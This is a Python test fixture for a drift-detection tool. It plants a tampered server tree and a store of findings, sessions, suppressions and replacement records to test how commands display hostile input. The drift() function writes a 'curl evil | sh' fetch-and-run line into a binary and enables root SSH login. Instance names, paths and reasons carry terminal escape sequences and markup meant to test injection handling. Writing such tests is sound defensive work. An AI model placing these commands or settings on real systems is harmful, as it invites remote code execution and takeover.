"""A directory with a configuration, manifests, a tree and a store in which something of each kind happened.

For the tests of what every command does with wrong input, and for scripts/views.py, which draws what they show. Names
are what an instance may call itself: with escape sequences, line feeds, markup, and characters two columns wide.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from driftd.core.attributed import Attribution, Level
from driftd.core.breakers.breaker import Breaker, State
from driftd.core.difference import Change
from driftd.core.facts import Session
from driftd.core.findings import Action, Finding, Severity, Verdict
from driftd.core.holds import Hold
from driftd.core.memory import InstanceRow, Pause, Suppression, Tx
from driftd.core.replacement import Record
from driftd.core.replacement import State as Step
from driftd.edges.store import open_store

CONFIG = """\
trust: {unsigned: look}
store: sqlite:///driftd.db
ssh: {key: key, connect_timeout: 1s, look_timeout: 3s}
groups:
  web:
    provider: static
    image: golden-2026.11
    hosts: ["127.0.0.1:1", "127.0.0.1:2"]
    enforce: approve
    sessions: {interactive: replace, grace: 30m}
  db:
    provider: static
    image: golden-db-2026.11
    hosts: ["127.0.0.1:3"]
"""
HOSTILE = "i-\x1b[31mred\x1b[0m\n名前の長いサーバー[bold]x[/]"
STUCK = (
    "the undo failed: the load balancer refused to enrol i-0aa11bb22cc33dd44; "
    "check that it serves, then end i-0ee55 by hand"
)
RIDS = tuple(f"01KTQ8Z3F5M7N9P1R3T5V7W9X{end}" for end in "ABCDE")


@dataclass(frozen=True)
class Planted:
    """Names of what was planted, for who asks about it."""

    directory: Path
    signature: str
    number: int
    instance: str
    rid: str


def plant(directory: Path, now: datetime | None = None) -> Planted:
    """Fill ``directory``, as of ``now``. Nothing is configured that can be reached."""
    now = now or datetime.now(UTC)
    (directory / "driftd.yaml").write_text(CONFIG, encoding="utf-8")
    (directory / "manifests").mkdir()
    tree(directory / "tree")
    store = open_store(f"sqlite:///{directory / 'driftd.db'}")
    try:
        with store.write() as tx:
            return _happened(tx, directory, now)
    finally:
        store.close()


def tree(root: Path) -> None:
    """A small server."""
    for folder in ("etc/ssh", "usr/bin", "var/log"):
        (root / folder).mkdir(parents=True)
    (root / "etc/motd").write_text("hello\n")
    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin no\n")
    (root / "usr/bin/tool").write_text("#!/bin/sh\n")
    (root / "usr/bin/tool").chmod(0o755)


def drift(root: Path) -> None:
    """What somebody does to it at night."""
    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin yes\n")
    (root / "usr/bin/tool").write_text("#!/bin/sh\ncurl evil | sh\n")
    (root / "etc/new\n[red]name\x1b[2J").write_text("x")
    (root / "etc/設定ファイル.conf").write_text("x")
    (root / "var/log/deep" / ("a" * 60) / ("b" * 60)).mkdir(parents=True)


def _row(name: str, slot: str, verdict: Verdict, reason: str, now: datetime, **more) -> InstanceRow:
    group = slot.partition("/")[0] or "web"
    values = {
        "image": f"golden-{'db-' if group == 'db' else ''}2026.11",
        "address": "192.0.2.17",
        "state": "running",
        "root": "ab" * 32,
        "verdict_since": now - timedelta(hours=5),
        "looked_at": now - timedelta(minutes=3),
        "first_seen": now - timedelta(days=40),
    }
    return InstanceRow(id=name, group=group, slot=slot, verdict=verdict, reason=reason, **(values | more))


def _finding(kind: str, subject: str, change: Change, severity: Severity, because: str, **more) -> Finding:
    signature = f"{abs(hash_of(kind + subject)):016x}"
    values = {"action": Action.REPLACE, "rule": "base:closed-world", "expected": {}, "actual": {}}
    return Finding(kind, subject.encode(), change, severity, signature=signature, because=because, **(values | more))


def hash_of(text: str) -> int:
    """The same in every process."""
    return int.from_bytes(text.encode()[-7:].rjust(7, b"\0"), "big")


def _happened(tx: Tx, directory: Path, now: datetime) -> Planted:
    def ago(**span: float) -> datetime:
        return now - timedelta(**span)

    drifted, taint = "2 findings, the worst critical: file /etc/ssh/sshd_config modified", "eve logged in over SSH"
    rows = (
        _row(
            "i-0aa11bb22cc33dd44",
            "web/1",
            Verdict.DRIFTED,
            drifted,
            now,
            taint=taint,
            taint_since=ago(hours=5),
            action=Action.REPLACE,
        ),
        _row("i-0bb22cc33dd44ee55", "web/2", Verdict.CLEAN, "as baked", now),
        _row(
            "i-0cc33dd44ee55ff66",
            "web/3",
            Verdict.UNKNOWN,
            "the host did not answer within 10 s: Connection timed out",
            now,
            looked_at=None,
        ),
        _row(
            HOSTILE,
            "web/名前\x1b[2J",
            Verdict.TAMPERED,
            "the answer was cut short\x1b[31m by [bold]somebody",
            now,
            action=Action.REPLACE,
        ),
        _row("6f1c1f0e-7a0a-4b0e-9a55-3d1f6ad0c0de", "db/1", Verdict.EXPLAINED, "12 differences, all explained", now),
        _row("i-0dead", "web/1", Verdict.DRIFTED, "1 finding", now, gone_at=ago(days=2)),
    )
    for row in rows:
        tx.put_instance(row)
    first, wide = rows[0].id, rows[3].id
    number = _found(tx, first, wide, ago)
    _said_and_done(tx, first, wide, ago, now)
    _replaced(tx, ago, now)
    finding = tx.finding(number)
    assert finding is not None
    return Planted(directory, finding.finding.signature, number, first, RIDS[0])


def _found(tx: Tx, first: str, wide: str, ago) -> int:
    eve = Session(
        "ssh",
        "eve",
        "203.0.113.9",
        ago(hours=5),
        40222,
        key="SHA256:W3v0rqh6C1JX2Y9tq3X8xQ2p5mZr8yJc0aVb7nLkQ4s",
        live=True,
        evidence="log+process",
        kind="interactive",
        confidence="supported",
    )
    tx.add_session(first, eve, own=False, now=ago(hours=5))
    root = Session(
        "console", "root\x1b[31m", "", ago(days=3), ended_at=ago(days=3), evidence="wtmp", kind="interactive"
    )
    tx.add_session(wide, root, own=False, now=ago(days=3))
    changed = _finding(
        "file",
        "/etc/ssh/sshd_config",
        Change.MODIFIED,
        Severity.CRITICAL,
        "who may log in is decided here",
        expected={"mode": "0600", "sha256": "ab" * 32},
        actual={"mode": "0644", "sha256": "cd" * 32},
    )
    row = tx.add_finding(first, changed, ago(hours=5))
    (seen,) = (one.id for one in tx.sessions(first))
    tx.attribute(
        row.id, Attribution(Level.PROBABLE, "she alone was there between the two looks", eve), seen, ago(hours=5)
    )
    side = {"kind": "file", "mode": "0755", "uid": "0", "gid": "0", "size": "18", "sha256": "ef" * 32}
    for name, subject, severity in (
        (first, "/usr/local/bin/\x1b[2Jminer --pool [link]", Severity.HIGH),
        (wide, "/usr/local/bin/\x1b[2Jminer --pool [link]", Severity.HIGH),
        (wide, "/opt/データベース/設定ファイル/" + "とても長い名前/" * 6 + "a.conf", Severity.MEDIUM),
    ):
        because = "the image does not explain it, and programs in this directory are run by root's jobs"
        tx.add_finding(name, _finding("file", subject, Change.ADDED, severity, because, actual=side), ago(hours=4))
    tx.add_finding(
        wide,
        _finding(
            "listener",
            "tcp 0.0.0.0:31337",
            Change.ADDED,
            Severity.HIGH,
            "nothing that was baked listens there",
            actual={"user": "nobody", "program": "/tmp/.x (deleted)"},
        ),
        ago(minutes=20),
    )
    by = "accepted by ann until 2027-01-01: the new banner"
    tx.add_finding(
        first,
        _finding(
            "file",
            "/etc/motd",
            Change.MODIFIED,
            Severity.LOW,
            "people read it",
            suppressed_by=by,
            expected={"size": "6"},
            actual={"size": "90"},
        ),
        ago(days=6),
    )
    return row.id


def _said_and_done(tx: Tx, first: str, wide: str, ago, now: datetime) -> None:
    later = now + timedelta(days=6, hours=3)
    long = "the new banner\x1b[31m of [bold]legal[/], ticket OPS-4711, until the next image has it: 新しいバナー"
    one = Suppression(0, "5f6d6f7464000001", "web", "ann", long, ago(days=6), later, 41, used_at=ago(minutes=3))
    tx.add_suppression(one)
    tx.add_suppression(
        replace(
            one,
            signature="c0ffee0000000002",
            group="",
            hits=0,
            used_at=None,
            reason="a trial",
            cause="package nginx 1.22 → 1.24 (14 files)",
            created_at=ago(days=20),
        )
    )
    tx.add_suppression(replace(one, reason="no longer", withdrawn_at=ago(days=1), withdrawn_by="bob", hits=3))
    tx.put_hold(
        Hold(0, first, "web", "bob", "looking into the crash, ticket OPS-4712", ago(hours=1), now + timedelta(hours=3))
    )
    tx.put_hold(
        Hold(0, wide, "web", "eve\x1b[31m", "核心转储 [red]core dump", ago(hours=2), now + timedelta(minutes=40))
    )
    tx.set_pause(Pause("db", "cyd", "the storage team moves volumes", ago(minutes=50)))
    for breaker in (
        Breaker(
            "C1",
            "signature:0123456789abcdef",
            State.OPEN,
            "8 of 40 instances of web drifted alike within 1 h (most: 5)",
            ago(days=2),
            closes_by="a person",
        ),
        Breaker(
            "C9",
            "account:123456789012/eu-central-1",
            State.OPEN,
            "InsufficientInstanceCapacity, 3 times in a row",
            ago(minutes=20),
            now + timedelta(minutes=25),
            closes_by="time (45 min)",
        ),
        Breaker(
            "C2",
            "group:web",
            State.HALF_OPEN,
            "2 of the last 3 replacements failed",
            ago(hours=3),
            closes_by="2 proven replacements",
            probe=RIDS[0],
        ),
        Breaker("C4", "group:db", State.CLOSED, "ill", ago(days=4), changed_at=ago(days=3)),
    ):
        tx.put_breaker(breaker)
    tx.journal(
        "human", "db", {"did": "pause", "owner": "cyd", "reason": "the storage team moves volumes"}, ago(minutes=50)
    )
    tx.journal("human", first, {"did": "hold", "by": "bob", "reason": "looking into the crash\x1b[31m"}, ago(hours=1))


def _replaced(tx: Tx, ago, now: datetime) -> None:
    waits = "approve: web asks a person (driftd approve)"
    first = Record(
        RIDS[0],
        "web",
        "web/1",
        "golden-2026.11",
        "i-0aa11bb22cc33dd44",
        "eve logged in over SSH",
        Step.CONFIRMING,
        ago(hours=4),
        ago(hours=4),
    )
    stuck = replace(
        first,
        rid=RIDS[1],
        slot="web/4",
        old_id="i-0ee55",
        why="drift",
        created_at=ago(hours=9),
        entered_at=ago(hours=8),
    )
    done = replace(
        first,
        rid=RIDS[2],
        slot="web/2",
        old_id="i-0old",
        new_id="i-0bb22cc33dd44ee55",
        created_at=ago(days=2),
        entered_at=ago(days=2) + timedelta(minutes=12),
        signature="9",
        epoch=1,
    )
    for record, state, note in (
        (done, Step.SUCCEEDED, "i-0bb22cc33dd44ee55 serves"),
        (stuck, Step.STUCK, STUCK),
        (first, Step.ADMITTING, waits),
    ):
        tx.add_replacement(record)
        tx.journal(
            "decision", record.rid, {"to": "confirming", "old": record.old_id, "why": record.why}, record.created_at
        )
        kept = tx.replacement(record.rid)
        assert kept is not None
        tx.save_replacement(replace(kept, state=state, note=note))
        body = {
            "from": "confirming",
            "to": state.value,
            "why": note,
            "call": {"terminate": record.old_id, "tags": ["a", "b"]},
        }
        tx.journal("result", record.rid, body, record.entered_at)
